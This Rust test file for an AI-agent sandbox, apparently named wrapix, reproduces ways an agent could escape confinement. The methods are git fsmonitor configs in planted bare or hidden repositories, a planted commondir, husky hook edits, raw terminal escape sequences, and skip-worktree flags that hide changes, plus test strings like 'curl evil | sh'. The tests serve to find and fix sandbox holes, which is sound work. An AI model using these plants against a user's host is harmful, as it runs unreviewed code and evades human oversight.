//! Attacks that still work: one sandboxed run leaves something that makes the host run the
//! agent's code later (the user's next `git status` or `git commit`), or prints the agent's
//! bytes raw on the user's terminal. Each test has a host-side control (the same plant, made
//! without wrapix, does what the attack claims) and then asserts what a sound wrapix would
//! guarantee; every test here FAILS on the code it was written against.

use std::path::PathBuf;

use super::harness::Case;

/// A git config that runs `touch MARKER` from `git status` (core.fsmonitor is a shell command).
/// `core.worktree = .` gives a bare repository a work tree, so that `git status` runs in it.
const EVIL_BARE_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\
    \tworktree = .\n\tfsmonitor = \"touch MARKER; false\"\n";
/// The same for a `.git` folder (its work tree is the folder that holds it).
const EVIL_CONFIG: &str =
    "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch MARKER; false\"\n";

const GIT: &str = "git -c user.name=t -c user.email=t@e";

/// A repository with one commit: `a.txt` and `src/lib/x.txt`.
fn repo(c: &Case) {
    c.write(&c.project.join("a.txt"), "a\n");
    c.write(&c.project.join("src/lib/x.txt"), "x\n");
    c.host_repo(&c.project);
}

fn marker(c: &Case) -> PathBuf {
    c.root.join("host-ran-the-agents-code")
}

/// `text` with MARKER replaced by the case's marker path.
fn with_marker(c: &Case, text: &str) -> String {
    text.replace("MARKER", &marker(c).to_string_lossy())
}

/// The user's `git status` in the project folder `dir` (relative), on the host. Its exit
/// code does not matter; what it runs does.
fn host_git_status(c: &Case, dir: &str) {
    let _ = c.host_as_user("git", &["-C", dir, "status", "--short"]);
}

/// Plants a bare repository (HEAD, objects/, refs/, config) in the folder `dir` of the
/// project: git takes any folder that looks like a git folder for a repository when it
/// searches upwards, before it looks further up for `.git` (`safe.bareRepository` is `all` by
/// default). Nothing in it is called `.git`.
fn bare_plant(c: &Case, dir: &str) -> String {
    format!(
        "t=$(mktemp -d) && git init -q --bare \"$t/b\" && cd {dir} && \
         cp -r \"$t/b/HEAD\" \"$t/b/objects\" \"$t/b/refs\" . && \
         cat > config <<'EOF'\n{}EOF\n",
        with_marker(c, EVIL_BARE_CONFIG)
    )
}

/// Attack 1: a folder the agent turns into a bare repository (`src/HEAD`, `src/objects/`,
/// `src/refs/`, `src/config` with core.fsmonitor). The tripwire only looks for entries named
/// `.git`, so it says nothing, and the user's next `git status` anywhere below `src/` (a
/// shell prompt does that on every `cd`) runs the agent's command on the host.
#[test]
fn escape_attack_a_bare_repository_planted_in_a_subfolder_runs_on_host_git_status() {
    // Control: planted on the host, git status in src/lib runs the marker.
    let Some(h) = Case::escape() else { return };
    repo(&h);
    h.host_as_user("/bin/sh", &["-c", &bare_plant(&h, "src")])
        .ok();
    host_git_status(&h, "src/lib");
    assert!(
        marker(&h).exists(),
        "control: git status in src/lib did not run the planted bare repository's fsmonitor"
    );

    let Some(c) = Case::escape() else { return };
    repo(&c);
    let out = c.sh(&bare_plant(&c, "src"));
    assert_eq!(out.code, 0, "the plant failed inside:\n{out}");
    host_git_status(&c, "src/lib");
    assert!(
        !marker(&c).exists(),
        "the host's git status in src/lib ran the agent's command (a bare repository in src/, \
         not named by the tripwire):\n{out}"
    );
}

/// Attack 1b: the project is a folder inside a larger repository (a monorepo package; the
/// `.git` is above the project, out of the sandbox's reach). The agent turns the project
/// folder itself into a bare repository: git finds it before the real `.git` above it.
#[test]
fn escape_attack_a_project_inside_a_repository_becomes_a_bare_repository() {
    let setup = |c: &Case| {
        // The repository is the case's home; the project is its folder `project`.
        c.write(&c.project.join("a.txt"), "a\n");
        c.host_git(&c.home, &["init", "-q"]).ok();
        c.host_git(&c.home, &["add", "project/a.txt"]).ok();
        c.host_git(&c.home, &["commit", "-q", "-m", "a"]).ok();
    };
    let Some(h) = Case::escape() else { return };
    setup(&h);
    h.host_as_user("/bin/sh", &["-c", &bare_plant(&h, ".")])
        .ok();
    host_git_status(&h, ".");
    assert!(marker(&h).exists(), "control: git status did not run it");

    let Some(c) = Case::escape() else { return };
    setup(&c);
    let out = c.sh(&bare_plant(&c, "/workspace"));
    assert_eq!(out.code, 0, "the plant failed inside:\n{out}");
    host_git_status(&c, ".");
    assert!(
        !marker(&c).exists(),
        "the host's git status in the project ran the agent's command:\n{out}"
    );
}

/// Plants a nested repository whose config runs the marker in `dir/r`, then takes read
/// permission off `dir` (`chmod 100`: still enterable, not listable).
fn hidden_plant(c: &Case, dir: &str) -> String {
    format!(
        "chmod 700 {dir} 2>/dev/null; mkdir -p {dir} && {GIT} init -q {dir}/r && \
         cat > {dir}/r/.git/config <<'EOF'\n{}EOF\nchmod 100 {dir}\n",
        with_marker(c, EVIL_CONFIG)
    )
}

/// Attack 2: a folder without read permission (`chmod 100`, still enterable) hides an armed
/// nested repository from the tripwire's walk. The walk reports "could not search this
/// folder" and moves nothing; git on the host does not need to list the folder, and runs the
/// planted config.
#[test]
fn escape_attack_an_unlistable_folder_hides_an_armed_repository() {
    let Some(h) = Case::escape() else { return };
    repo(&h);
    h.host_as_user("/bin/sh", &["-c", &hidden_plant(&h, "hid")])
        .ok();
    host_git_status(&h, "hid/r");
    assert!(marker(&h).exists(), "control: git status did not run it");

    let Some(c) = Case::escape() else { return };
    repo(&c);
    let out = c.sh(&hidden_plant(&c, "hid"));
    assert_eq!(out.code, 0, "the plant failed inside:\n{out}");
    host_git_status(&c, "hid/r");
    assert!(
        !marker(&c).exists(),
        "the host's git status ran the agent's command; wrapix only said:\n{out}"
    );
}

/// Attack 2b: the same, silently. A first run leaves an empty unlistable folder (reported as
/// "could not search", nothing planted yet). The second run plants the repository in it and
/// makes it unlistable again: the folder was unlistable before that run too, so the tripwire
/// says nothing at all.
#[test]
fn escape_attack_a_folder_unlistable_since_an_earlier_run_hides_a_plant_silently() {
    let Some(c) = Case::escape() else { return };
    repo(&c);
    let first = c.sh("mkdir -p cache && chmod 100 cache");
    assert_eq!(first.code, 0, "{first}");
    let out = c.sh(&hidden_plant(&c, "cache"));
    assert_eq!(out.code, 0, "the plant failed inside:\n{out}");
    host_git_status(&c, "cache/r");
    assert!(
        out.stderr.contains("cache"),
        "the second run planted an armed repository in cache/r and wrapix said nothing:\n{out}"
    );
    assert!(
        !marker(&c).exists(),
        "the host's git status ran the agent's command:\n{out}"
    );
}

/// Attack 3: fail open. Any read error in the tripwire's check (here: the agent took read
/// permission off the project folder itself, `chmod 100 /workspace`) aborts the whole check,
/// so nothing is quarantined: a planted `.git/commondir` stays, and the user's next
/// `git status` takes its config from the agent's folder. The error does not say that
/// anything was planted.
#[test]
fn escape_attack_a_failed_check_leaves_a_planted_commondir_in_place() {
    let plant = |c: &Case| {
        format!(
            "mkdir planted && cp -r .git/objects .git/refs planted/ && \
             cat > planted/config <<'EOF'\n{}EOF\n\
             echo ../planted > .git/commondir && chmod 100 \"$PWD\"",
            with_marker(c, EVIL_CONFIG)
        )
    };
    let Some(h) = Case::escape() else { return };
    repo(&h);
    h.host_as_user("/bin/sh", &["-c", &plant(&h)]).ok();
    host_git_status(&h, ".");
    assert!(marker(&h).exists(), "control: git status did not run it");

    let Some(c) = Case::escape() else { return };
    repo(&c);
    let out = c.sh(&plant(&c));
    host_git_status(&c, ".");
    let left = std::fs::read_to_string(c.project.join(".git/commondir")).unwrap_or_default();
    assert!(
        !marker(&c).exists(),
        "the host's git status ran the agent's command (.git/commondir left: {left:?}):\n{out}"
    );
}

/// husky v9's files: `core.hooksPath = .husky/_`, whose hooks only run `.husky/<hook>`.
const HUSKY_H: &str = "#!/usr/bin/env sh\n\
    n=$(basename \"$0\")\n\
    s=$(dirname \"$(dirname \"$0\")\")/$n\n\
    [ ! -f \"$s\" ] && exit 0\n\
    [ \"${HUSKY-}\" = \"0\" ] && exit 0\n\
    export PATH=\"node_modules/.bin:$PATH\"\n\
    sh -e \"$s\" \"$@\"\n";
const HUSKY_SHIM: &str = "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n";

/// Attack 4: husky v9 (the current husky) sets `core.hooksPath = .husky/_`. wrapix protects
/// that folder (docs/config.md names husky as the case), but its hooks are two-line shims
/// that run `.husky/pre-commit`, one folder up, which the agent may change. The user's next
/// `git commit` runs the agent's line on the host.
#[test]
fn escape_attack_husky_hooks_run_code_from_outside_the_protected_hooks_folder() {
    let setup = |c: &Case| {
        repo(c);
        c.write(&c.project.join(".husky/_/h"), HUSKY_H);
        c.write(&c.project.join(".husky/_/pre-commit"), HUSKY_SHIM);
        c.write(&c.project.join(".husky/pre-commit"), "echo lint\n");
        c.host_as_user("chmod", &["+x", ".husky/_/h", ".husky/_/pre-commit"])
            .ok();
        c.host_as_user("git", &["config", "core.hooksPath", ".husky/_"])
            .ok();
    };
    let commit = |c: &Case| {
        c.write(&c.project.join("a.txt"), "b\n");
        // Its exit code does not matter; what the hooks run does.
        let _ = c.host_git(&c.project, &["commit", "-q", "-am", "b"]);
    };
    let plant = |c: &Case| with_marker(c, "echo 'touch MARKER' >> .husky/pre-commit");
    let Some(h) = Case::escape() else { return };
    setup(&h);
    h.host_as_user("/bin/sh", &["-c", &plant(&h)]).ok();
    commit(&h);
    assert!(marker(&h).exists(), "control: git commit did not run it");

    let Some(c) = Case::escape() else { return };
    setup(&c);
    let out = c.sh(&format!(
        "touch .husky/_/x 2>/dev/null && echo HOOKS-FOLDER-WRITABLE; {}",
        plant(&c)
    ));
    assert!(
        !out.stdout.contains("HOOKS-FOLDER-WRITABLE"),
        "the hooks folder itself is writable (not the attack under test):\n{out}"
    );
    commit(&c);
    assert!(
        !marker(&c).exists(),
        "the host's git commit ran the agent's line in .husky/pre-commit:\n{out}"
    );
}

/// An ESC byte: the start of every terminal control sequence.
const ESC: char = '\u{1b}';

/// Attack 5a: `wrapix trust` prints the project file's key names raw. A wrapix.toml the agent
/// created (none existed, so it was not read-only) names a key with terminal control
/// sequences (here: set the window title, erase the line); the user runs `wrapix trust` to
/// review what it asks for and their terminal executes the agent's bytes (cursor movement can
/// erase the `mounts` lines shown above it).
#[test]
fn escape_attack_wrapix_trust_prints_the_agents_key_names_raw() {
    let Some(c) = Case::escape() else { return };
    repo(&c);
    let toml = "[env]\n\"\\u001b]0;OWNED\\u0007\\u001b[1A\\u001b[2K\" = \"x\"\n\
                [[mounts]]\nsource = \"~\"\ndest = \"/h\"\nmode = \"rw\"\n";
    let out = c.sh(&format!("cat > wrapix.toml <<'EOF'\n{toml}EOF"));
    assert_eq!(out.code, 0, "{out}");
    let trust = c.run(&["trust"]);
    // Control: the key is in the output (the file was read and judged).
    assert!(trust.stdout.contains("OWNED"), "{trust}");
    assert!(
        !trust.stdout.contains(ESC) && !trust.stderr.contains(ESC),
        "wrapix trust wrote the agent's control sequences to the terminal: {:?}",
        trust.stdout
    );
}

/// Attack 5b: the one-time migration of an older wrapix's `.wrapix/agent/claude` names the
/// files it did not copy (links, special files) raw in a notice. A `wrapix run -- …` (which
/// wires no agent state) plants `.wrapix/agent/claude/<ESC…>` as a link; the user's next
/// `wrapix shell` (or agent run) prints the name on the terminal.
#[test]
fn escape_attack_the_migration_notice_prints_the_agents_file_names_raw() {
    let Some(c) = Case::escape() else { return };
    repo(&c);
    let out = c.sh("mkdir -p .wrapix/agent/claude && \
         ln -s /etc/passwd \".wrapix/agent/claude/$(printf '\\033]0;OWNED\\007\\033[2K')\"");
    assert_eq!(out.code, 0, "{out}");
    let shell = c.run(&["shell"]);
    // Control: the migration happened and named the link.
    assert!(shell.stderr.contains("OWNED"), "{shell}");
    assert!(
        !shell.stderr.contains(ESC),
        "wrapix wrote the agent's control sequences to the terminal: {:?}",
        shell.stderr
    );
}

/// Attack 6 (review, not code execution): the agent sets the `skip-worktree` bit on a file it
/// changed, in `.git/index` (writable, and not part of the tripwire's surface beyond
/// gitlinks). The user's `git status` and `git diff`, the review docs/security.md asks for,
/// then show nothing, and the tripwire says nothing; the changed file is run later as the
/// project's own code.
#[test]
fn escape_attack_index_flags_hide_the_agents_change_from_git_status() {
    let Some(c) = Case::escape() else { return };
    repo(&c);
    // Control: the same change without the flag is shown.
    let out = c.sh("echo 'curl evil | sh' >> src/lib/x.txt");
    assert_eq!(out.code, 0, "{out}");
    let status = c.host_as_user("git", &["status", "--short"]);
    assert!(status.stdout.contains("x.txt"), "control: {status}");

    let out = c.sh("echo 'curl evil | sh' >> a.txt && git update-index --skip-worktree a.txt");
    assert_eq!(out.code, 0, "{out}");
    let status = c.host_as_user("git", &["status", "--short"]);
    let diff = c.host_as_user("git", &["diff", "--stat"]);
    assert!(
        status.stdout.contains("a.txt")
            || diff.stdout.contains("a.txt")
            || out.stderr.contains("a.txt"),
        "the change to a.txt is hidden from git status and git diff, and wrapix said nothing:\n\
         status: {status}\ndiff: {diff}\nrun: {out}"
    );
}
